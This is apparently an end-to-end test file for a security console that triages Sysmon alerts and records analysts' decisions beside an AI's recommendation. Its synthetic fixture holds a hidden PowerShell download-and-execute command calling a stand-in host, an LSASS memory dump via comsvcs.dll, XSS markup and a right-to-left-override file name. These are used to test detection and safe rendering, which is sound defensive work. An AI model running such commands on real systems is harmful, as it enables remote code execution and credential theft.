import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import openapiTS, { astToString } from 'openapi-typescript';
import { pino } from 'pino';
import { type BrowserContext, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { shippedRules } from '../../src/cli/load.ts';
import { Policy } from '../../src/contracts/policy.ts';
import { type Host, openHost } from '../../src/host/host.ts';
import { type Listening, listen } from '../../src/host/web.ts';
import { createAccount } from '../../src/http/auth/accounts.ts';
import { openapiDocument } from '../../src/http/openapi-document.ts';
import { CHROMIUM, chromiumFlags, chromiumMissing } from '../chromium.ts';
import { throwawayFolder } from '../store.ts';

/** What an attacker would write to reach the analyst: markup, an order to the machine, an extension turned round. */
const MARKUP = '<img src=x onerror="window.reached=1"><script>window.reached=1</script>';
const TURNED_ROUND = 'invoice_\u202efdp.exe';

const started = Date.UTC(2026, 2, 10, 9);
const analyst = { name: 'Ana Analyst', email: 'ana@acme.example', password: 'correct horse battery' };

interface Start {
  readonly second: number;
  readonly image: string;
  readonly commandLine: string;
  readonly pid: number;
  readonly parent: { readonly pid: number; readonly image: string; readonly commandLine?: string };
  readonly host?: string;
}

const guid = (pid: number) => `{00000000-0000-0000-0000-${String(pid).padStart(12, '0')}}`;

/** A Sysmon process start as nxlog forwards it. */
function processStart({ second, image, commandLine, pid, parent, host = 'ws-017' }: Start): string {
  const at = new Date(started + second * 1000).toISOString();
  return JSON.stringify({
    '@timestamp': at,
    EventTime: at.slice(0, 19).replace('T', ' '),
    EventReceivedTime: at.slice(0, 19).replace('T', ' '),
    Hostname: `${host}.acme.example`,
    host: 'collector.acme.example',
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    SourceName: 'Microsoft-Windows-Sysmon',
    EventID: 1,
    RecordNumber: 1000 + pid,
    UtcTime: at.slice(0, 23).replace('T', ' '),
    ProcessGuid: guid(pid),
    ProcessId: String(pid),
    Image: image,
    OriginalFileName: image.split('\\').at(-1),
    CommandLine: commandLine,
    User: 'ACME\\m.ruiz',
    LogonId: '0x5e1a9',
    IntegrityLevel: 'High',
    ParentProcessGuid: guid(parent.pid),
    ParentProcessId: String(parent.pid),
    ParentImage: parent.image,
    ParentCommandLine: parent.commandLine ?? parent.image,
  });
}

/** An ordinary morning on twenty machines, and on one of them a document that leads to a dump of LSASS. */
function telemetry(): string {
  const explorer = { pid: 100, image: 'C:\\Windows\\explorer.exe' };
  const word = {
    pid: 201,
    image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
    commandLine: `WINWORD.EXE C:\\Users\\m.ruiz\\Downloads\\${TURNED_ROUND}`,
  };
  const shell = { pid: 202, image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe' };
  const ordinary = Array.from({ length: 200 }, (_, n) =>
    processStart({
      second: n,
      host: `ws-${100 + (n % 20)}`,
      image: 'C:\\Windows\\System32\\notepad.exe',
      commandLine: `notepad.exe C:\\notes\\${n}.txt`,
      pid: 1000 + n,
      parent: explorer,
    }),
  );
  const story = [
    processStart({ second: 300, ...word, parent: explorer }),
    processStart({
      second: 305,
      ...shell,
      commandLine: `powershell.exe -NoProfile -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a'); '${MARKUP}'"`,
      parent: word,
    }),
    processStart({
      second: 320,
      image: 'C:\\Windows\\System32\\rundll32.exe',
      commandLine: `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\ProgramData\\${MARKUP}.bin full`,
      pid: 203,
      parent: shell,
    }),
  ];
  return `${[...ordinary, ...story].join('\n')}\n`;
}

it('the console is written against the API as it is', async () => {
  const document = JSON.parse(JSON.stringify(await openapiDocument()));
  const fresh = astToString(await openapiTS(document));
  const written = readFileSync(new URL('../../web/src/api/schema.d.ts', import.meta.url), 'utf8');
  // To renew: bridgewatch openapi > api.json && openapi-typescript api.json -o web/src/api/schema.d.ts
  expect(written.slice(written.indexOf('export interface paths'))).toBe(
    fresh.slice(fresh.indexOf('export interface paths')),
  );
});

describe.skipIf(chromiumMissing('console.test.ts') !== null)('the console in a browser', () => {
  let dataDir: string;
  let profile: string;
  let host: Host;
  let web: Listening;
  let browser: BrowserContext;
  let page: Page;
  const faults: string[] = [];

  beforeAll(async () => {
    dataDir = throwawayFolder();
    profile = mkdtempSync(join(tmpdir(), 'bw-chromium-'));
    const log = pino({ level: 'silent' });
    const sample = join(profile, 'morning.ndjson');
    writeFileSync(sample, telemetry());
    host = await openHost({
      dataDir,
      databaseUrl: undefined,
      publicUrl: null,
      tenant: { id: 'acme', name: 'Acme' },
      rules: [shippedRules],
      log,
    });
    await createAccount(host, { ...analyst, tenant: 'acme', role: 'analyst' });
    web = await listen(host, { port: 0, address: '127.0.0.1', publicUrl: null, log });
    // Which findings are blind is drawn; here one is made so by hand, further down.
    await host.store.withTenants(['acme'], (tx) => tx.policy.put('acme', Policy.parse({ blindShare: 0 }), 0, 1));
    await host.telemetry.read([sample], { onReject: () => undefined });
    browser = await chromium.launchPersistentContext(profile, {
      executablePath: CHROMIUM,
      args: chromiumFlags,
      viewport: { width: 1440, height: 900 },
    });
    page = browser.pages()[0] ?? (await browser.newPage());
    page.setDefaultTimeout(8_000);
    page.on('pageerror', (error) => faults.push(error.message));
    page.on('dialog', (dialog) => {
      faults.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on('console', (message) => {
      if (message.text().includes('Content Security Policy')) faults.push(message.text());
    });
  });

  afterAll(async () => {
    await browser?.close();
    await web?.close();
    await host?.close();
    for (const folder of [dataDir, profile])
      if (folder) rmSync(folder, { recursive: true, force: true, maxRetries: 5 });
  });

  it('asks who you are, and says so when the password is wrong', async () => {
    await page.goto(web.url);
    await page.getByLabel('Email').fill(analyst.email);
    await page.getByRole('textbox', { name: 'Password' }).fill('not the password');
    await page.getByRole('button', { name: 'Sign in' }).click();
    await expect.poll(() => page.getByRole('alert').textContent()).toBe('Email or password is wrong.');
    await page.getByRole('textbox', { name: 'Password' }).fill(analyst.password);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByRole('heading', { name: 'Queue' }).waitFor();
  });

  it('shows the findings that all the events came down to', async () => {
    await page.getByTestId('queue-row').first().waitFor();
    const rows = await page.getByTestId('queue-row').count();
    expect(await page.getByTestId('funnel').textContent()).toMatch(
      new RegExp(`^203 events → [1-9]\\d* detections → ${rows} findings$`),
    );
    expect(await page.getByTestId('queue-row').first().textContent()).toContain('ws-017');
  });

  it('opens a finding from the keyboard and adds up its probability', async () => {
    await page.keyboard.press('j');
    await page.keyboard.press('Enter');
    await page.getByTestId('log-odds-sum').waitFor();
    const table = page.locator('#probability table');
    const cell = 'td:nth-child(3)';
    const parts = await table.locator(`tbody ${cell}`).allTextContents();
    const hundredths = (text: string) => Math.round(Number(text.replace('−', '-')) * 100);
    const sum = parts.reduce((total, part) => total + hundredths(part), 0);
    expect(parts.length).toBeGreaterThan(2);
    expect(sum).toBe(hundredths((await page.getByTestId('log-odds-sum').textContent()) ?? ''));
    const shown = Number.parseFloat(((await page.getByTestId('probability').textContent()) ?? '').replace('> ', ''));
    expect(Math.abs(100 / (1 + Math.exp(-sum / 100)) - shown)).toBeLessThan(0.3);
  });

  it('shows hostile text as text, with turned-round names made visible', async () => {
    await page.locator('#timeline').waitFor();
    await page.locator('#detections').getByTestId('evidence-link').first().click();
    const raw = page.getByTestId('raw-event').first();
    await raw.waitFor();
    await page.getByText('As received', { exact: true }).click();
    await expect.poll(() => raw.textContent()).toContain(JSON.stringify(MARKUP).slice(1, -1));
    await expect.poll(() => raw.textContent()).toContain('invoice_U+202Efdp.exe');
    await page.getByRole('button', { name: 'Close evidence' }).click();
    await raw.waitFor({ state: 'hidden' });
    const text = (await page.locator('#content').textContent()) ?? '';
    expect(text).toContain(MARKUP.slice(0, 30));
    expect(text).not.toContain('\u202e');
    expect(await page.locator('#content img, #content script').count()).toBe(0);
    expect(await page.evaluate(() => 'reached' in globalThis)).toBe(false);
    expect(faults).toEqual([]);
  });

  it("records a person's decision, beside what the AI recommended", async () => {
    await page.getByRole('radio', { name: /^threat/ }).click();
    await page.getByRole('radio', { name: 'compromised host' }).click();
    await page.getByLabel('Note').fill('Host taken off the network; user called.');
    await page.getByRole('button', { name: 'Record determination' }).click();
    const held = page.getByTestId('determination');
    await held.waitFor();
    expect(await held.textContent()).toContain(analyst.name);
    expect(await held.textContent()).toContain("AI's recommendation at that revision");
    await page.getByRole('link', { name: '← Queue' }).click();
    await page.getByRole('link', { name: /^Determined/ }).click();
    await expect.poll(() => page.getByTestId('queue-row').count()).toBe(1);
    expect(await page.getByTestId('queue-row').textContent()).toContain(analyst.name);
  });

  it('opens a decided finding again, and forgets nothing', async () => {
    await page.getByTestId('queue-row').getByRole('link').click();
    await page.getByRole('button', { name: 'Reopen…' }).click();
    await page.getByLabel('Why open it again?').fill('new evidence from the customer');
    await page.getByRole('button', { name: 'Reopen finding' }).click();
    await page.getByRole('button', { name: 'Record determination' }).waitFor();
    expect(await page.locator('#history').textContent()).toContain('no longer in force');
  });

  it('refuses a decision on a revision that has moved on, and says what to do', async () => {
    const id = new URL(page.url()).pathname.split('/').at(-1) ?? '';
    const stored = await host.store.withTenants(['acme'], (tx) => tx.findings.get('acme', id));
    if (!stored) throw new Error(`no finding ${id}`);
    const revision = stored.finding.revision + 1;
    await page.getByRole('radio', { name: /^benign/ }).click();
    await page.getByRole('radio', { name: 'authorised administration' }).click();
    await page.getByLabel('Note').fill('kept through the conflict');
    await host.store.withTenants(['acme'], (tx) =>
      tx.findings.put({ ...stored, finding: { ...stored.finding, revision } }),
    );
    await page.getByRole('button', { name: 'Record determination' }).click();
    await page.getByText(`The finding moved on to revision ${revision}; review and decide again.`).waitFor();
    expect(await page.getByLabel('Note').inputValue()).toBe('kept through the conflict');
    expect(await page.getByRole('radio', { name: /^benign/ }).getAttribute('aria-checked')).toBe('false');
  });

  it('learns of changes as they happen, and moves no row until asked', async () => {
    const [stored] = (await host.store.withTenants(['acme'], (tx) => tx.findings.page('acme', {}, null, 1))).items;
    if (!stored) throw new Error('the queue is empty');
    await page.getByRole('link', { name: '← Queue' }).click();
    await page.getByTestId('queue-row').first().waitFor();
    const rows = page.getByTestId('queue-row');
    const before = await rows.evaluateAll((all) => all.map((row) => row.getAttribute('data-finding')));
    const id = 'f'.repeat(32);
    const { rank } = stored.finding;
    if (rank === undefined) throw new Error('the finding says nothing of what is at stake');
    const worst = { ...rank, expectedLoss: { ...rank.expectedLoss, value: 0.9999 } };
    await host.store.withTenants(['acme'], (tx) =>
      tx.findings.put({
        ...stored,
        finding: { ...stored.finding, id, revision: 1, threatProbability: 0.9999, rank: worst },
      }),
    );
    await page.getByRole('button', { name: 'Show changes: 1 new' }).waitFor();
    expect(await rows.evaluateAll((all) => all.map((row) => row.getAttribute('data-finding')))).toEqual(before);
    await page.keyboard.press('r');
    await expect.poll(() => rows.first().getAttribute('data-finding')).toBe(id);
    expect(await rows.count()).toBe(before.length + 1);
  });

  it('shows a blind finding without the opinion of the AI, and all of it once it is decided', async () => {
    const id = 'f'.repeat(32);
    const blind = { tenant: 'acme', finding: id, why: 'sample', share: 1, at: 1 } as const;
    await host.store.withTenants(['acme'], (tx) => tx.review.assignBlind(blind, 0.5));
    await page.goto(`${web.url}/t/acme/findings/${id}`);
    await page.getByTestId('blind').waitFor();
    expect(await page.getByTestId('blind').textContent()).toContain('decide first, then see what the AI thinks');
    expect(await page.getByTestId('probability').count()).toBe(0);
    expect(await page.locator('#content').textContent()).not.toMatch(/99\.\d+ ?%|AI recommends/);
    await expect
      .poll(
        async () =>
          (await host.store.withTenants(['acme'], (tx) => tx.review.desks('acme', [id]))).get(id)?.acknowledged?.name,
      )
      .toBe(analyst.name);
    await page.getByRole('radio', { name: /^benign/ }).click();
    await page.getByRole('radio', { name: 'authorised administration' }).click();
    await page.getByRole('button', { name: 'Record determination' }).click();
    const held = page.getByTestId('determination');
    await held.waitFor();
    expect(await held.textContent()).toContain('Decided blind; the AI had said');
    await page.getByTestId('probability').waitFor();
    await page.getByRole('link', { name: '← Queue' }).click();
    await page.getByTestId('queue-row').first().waitFor();
  });

  it('verifies the ledger', async () => {
    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Ledger' }).click();
    await page.getByTestId('ledger-row').first().waitFor();
    const entries = await page.getByTestId('ledger-row').count();
    await page.getByRole('button', { name: 'Verify the chain' }).click();
    const verified = page.getByTestId('ledger-verified');
    await verified.waitFor();
    expect(await verified.textContent()).toContain(`All ${entries} entries fit the chain.`);
  });

  it('signs out, and lets nobody back in without a password', async () => {
    await page.getByRole('button', { name: /^Account/ }).click();
    await page.getByRole('menuitem', { name: 'Sign out' }).click();
    await page.getByLabel('Email').waitFor();
    await page.goto(`${web.url}/t/acme/queue`);
    await page.getByLabel('Email').waitFor();
    expect(new URL(page.url()).searchParams.get('next')).toBe('/t/acme/queue?status=open');
    expect(faults).toEqual([]);
  });
});
